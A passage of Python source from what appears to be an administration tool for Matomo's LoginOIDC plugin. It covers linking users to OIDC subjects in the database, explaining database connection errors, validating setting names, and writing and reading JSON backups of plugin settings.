        self._require_link_tables()
        rows = self._query(
            f"SELECT `superuser_access` FROM {self.settings.table('user')} WHERE `login` = %s",
            (login,),
        )
        return (bool(rows), bool(rows and int(rows[0][0]) == 1))

    def link(
        self, login: str, subject: str, *, dry_run: bool = False, force: bool = False
    ) -> LinkResult:
        """Link Matomo user ``login`` to provider subject ``subject`` (what "Link account" does).

        The subject is the userinfo claim named by userinfoId. A subject already linked to a
        different user is refused unless ``force`` (then that link moves to ``login``).
        """
        if not login or not subject:
            raise UsageError("--link needs LOGIN=SUBJECT, both non-empty")
        self._require_link_tables()
        table = self.settings.table("loginoidc_provider")

        def work() -> LinkResult:
            ctx = contextlib.nullcontext() if dry_run else self._transaction()
            with ctx:
                lock = "" if dry_run else " FOR UPDATE"
                rows = self._query(
                    f"SELECT u.`login`, u.`superuser_access`, p.`user`, p.`provider_user` "
                    f"FROM {self.settings.table('user')} u LEFT JOIN {table} p "
                    "ON p.`provider` = %s AND (p.`user` = u.`login` OR p.`provider_user` = %s) "
                    f"WHERE u.`login` = %s{lock}",
                    (PROVIDER, subject, login),
                )
                if not rows:
                    raise InputError(
                        f"Matomo user {login!r} does not exist",
                        hint="create the user in Matomo first (or check the spelling; logins are case-sensitive)",
                    )
                superuser = int(rows[0][1] or 0) == 1
                links = [(str(r[2]), str(r[3])) for r in rows if r[2] is not None]
                others = sorted({u for u, s in links if s == subject and u != login})
                if others and not force:
                    raise InputError(
                        f"subject {subject!r} is already linked to Matomo user {others[0]!r}",
                        hint="unlink it in Matomo, or pass --force to move the link",
                    )
                mine = [s for u, s in links if u == login]
                if mine == [subject] and not others:
                    return LinkResult(login, subject, "unchanged", subject, superuser)
                action = "changed" if mine else "added"
                result = LinkResult(login, subject, action, mine[0] if mine else None, superuser)
                if dry_run:
                    return result
                self._query(
                    f"DELETE FROM {table} WHERE `provider` = %s AND (`user` = %s OR `provider_user` = %s)",
                    (PROVIDER, login, subject),
                )
                self._query(
                    f"INSERT INTO {table} (`user`, `provider_user`, `provider`, `date_connected`) "
                    "VALUES (%s, %s, %s, CURRENT_TIMESTAMP)",
                    (login, subject, PROVIDER),
                )
                return result

        for attempt in range(3):
            try:
                return work()
            except ApplyError as exc:
                if (
                    exc.__cause__ is None
                    or _errno(exc.__cause__) not in _LOCK_RETRY
                    or attempt == 2
                ):
                    raise
        raise AssertionError("unreachable")


def _row_key(row: StoredRow) -> tuple[str, str, int]:
    return (row.name, row.value, row.json_encoded)


def _text(value: Any) -> str:
    if isinstance(value, bytes | bytearray):
        return bytes(value).decode("utf-8", "replace")
    return "" if value is None else str(value)


def _connect_error(exc: BaseException, settings: DbSettings) -> Exception:
    import ssl

    code = _errno(exc)
    text = _errtext(exc)
    original = getattr(exc, "original_exception", None)  # PyMySQL keeps the OSError there
    if isinstance(original, ssl.SSLCertVerificationError):
        return InputError(
            f"the database server at {settings.where} presented a certificate that does not "
            f"verify: {original.verify_message or original.reason}",
            hint="name the host as its certificate does, give its CA (ssl_ca), "
            "or (not advised) ssl_verify=0 / [database] ssl_no_verify = 1",
        )
    if code == 1044:  # ER_DBACCESS_DENIED_ERROR: also what a missing database looks like
        return InputError(
            f"database user {settings.user!r} has no access to database {settings.database!r} "
            "(or it does not exist)",
            hint="check the database name (Matomo's [database] dbname) and the user's grants",
        )
    if code in _ACCESS_DENIED:
        source = {
            "dsn": "$OIDCSETUP_DB_PASSWORD or the prompt",
            "env": "$OIDCSETUP_DB_USER / $OIDCSETUP_DB_PASSWORD",
        }.get(
            settings.source,
            settings.source.removeprefix("config:") + " ([database] username/password)",
        )
        return InputError(
            f"access denied for database user {settings.user!r} at {settings.where}",
            hint=f"check the user name and password (from {source})",
        )
    if code == _UNKNOWN_DB:
        return InputError(
            f"database {settings.database!r} does not exist at {settings.where}",
            hint="check the database name (Matomo's [database] dbname)",
        )
    if code in _UNREACHABLE or code == 0:
        return UnreachableError(
            f"cannot connect to the database at {settings.where}: {text}",
            hint="check host, port or socket, and that the server is running",
        )
    return ApplyError(f"cannot connect to the database at {settings.where}: error {code}: {text}")


def check_names(desired: Mapping[str, str], known: Collection[str] | None) -> None:
    """Refuse setting names the plugin does not have (a typo would be silently ignored by Matomo)."""
    bad = [k for k, v in desired.items() if not isinstance(k, str) or not isinstance(v, str)]
    if bad:
        raise InputError(
            f"setting values must be strings in stored form: {', '.join(map(str, bad))}"
        )
    if known is None:
        return
    unknown = sorted(set(desired) - set(known))
    if unknown:
        raise InputError(
            f"unknown LoginOIDC setting name(s): {', '.join(unknown)}",
            hint="known settings: " + ", ".join(sorted(known)),
        )


# --------------------------------------------------------------------------------------------
# Backups
# --------------------------------------------------------------------------------------------


def write_backup(settings: DbSettings, rows: Collection[StoredRow], directory: Path) -> Path:
    """Save the plugin's rows to ``<dir>/matomo-db-<db>-<prefix>-<stamp>.json``, mode 0600."""
    directory = Path(directory)
    now = datetime.now(UTC)
    stamp = now.strftime("%Y%m%dT%H%M%S%fZ")
    document = {
        "format": BACKUP_FORMAT,
        "created": now.isoformat(timespec="seconds"),
        "database": settings.database,
        "host": settings.unix_socket or f"{settings.host}:{settings.port}",
        "table": f"{settings.prefix}plugin_setting",
        "plugin_name": PLUGIN,
        "user_login": "",
        "rows": [r.to_json() for r in rows],
    }
    data = (json.dumps(document, indent=2, ensure_ascii=False) + "\n").encode("utf-8")
    try:
        directory.mkdir(mode=0o700, parents=True, exist_ok=True)
    except OSError as exc:
        raise ApplyError(f"cannot create backup folder {directory}: {exc.strerror}") from None
    path = directory / f"matomo-db-{settings.database}-{settings.prefix or 'noprefix'}-{stamp}.json"
    counter = 1
    while path.exists():
        counter += 1
        path = path.with_name(
            f"matomo-db-{settings.database}-{settings.prefix or 'noprefix'}-{stamp}-{counter}.json"
        )
    atomic_write_bytes(path, data, mode=0o600, backup=False)
    return path


@dataclass(frozen=True)
class Backup:
    """A backup written by ``write_backup``: the rows, and where they were taken from."""

    rows: list[StoredRow]
    database: str | None
    table: str | None


def read_backup(path: Path) -> list[StoredRow]:
    """The rows of a backup written by ``write_backup`` (InputError for anything else)."""
    return load_backup(path).rows


def load_backup(path: Path) -> Backup:
    """A backup written by ``write_backup`` (InputError for anything else)."""
    try:
        document = json.loads(Path(path).read_text(encoding="utf-8"))
    except FileNotFoundError:
        raise InputError(f"backup file {path} does not exist") from None
    except (OSError, UnicodeDecodeError, ValueError) as exc:
        raise InputError(f"{path} is not an oidcsetup database backup: {exc}") from None
    if not isinstance(document, dict) or document.get("format") != BACKUP_FORMAT:
        raise InputError(
            f"{path} is not an oidcsetup database backup (format {BACKUP_FORMAT} expected)",
            hint="a config-file backup is restored by copying it over config.ini.php",
        )
    if document.get("plugin_name") != PLUGIN:
        raise InputError(
            f"{path} holds settings of plugin {document.get('plugin_name')!r}, not {PLUGIN}"
        )
    rows: list[StoredRow] = []
    for item in document.get("rows") or []:
        try:
            name, value, encoded = (
                item["setting_name"],
                item["setting_value"],
                item.get("json_encoded", 0),
            )
        except (TypeError, KeyError):
            raise InputError(f"{path}: malformed row {item!r}") from None
        if not isinstance(name, str) or not isinstance(value, str) or encoded not in (0, 1):
            raise InputError(f"{path}: malformed row {item!r}")
        rows.append(StoredRow(name, value, int(encoded)))
    database, table = document.get("database"), document.get("table")
    return Backup(
        rows,
        database if isinstance(database, str) else None,
        table if isinstance(table, str) else None,
    )
